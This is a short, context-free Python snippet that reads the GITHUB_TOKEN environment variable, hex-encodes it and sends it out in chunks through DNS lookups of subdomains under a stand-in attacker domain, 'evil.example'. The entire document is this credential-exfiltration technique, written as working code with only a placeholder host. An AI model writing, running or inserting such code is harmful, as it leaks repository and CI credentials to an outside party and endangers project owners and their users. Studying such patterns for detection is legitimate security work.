import os
import socket

text = os.environ["GITHUB_TOKEN"].encode().hex()
for start in range(0, len(text), 40):
    socket.gethostbyname(text[start : start + 40] + ".t.evil.example")
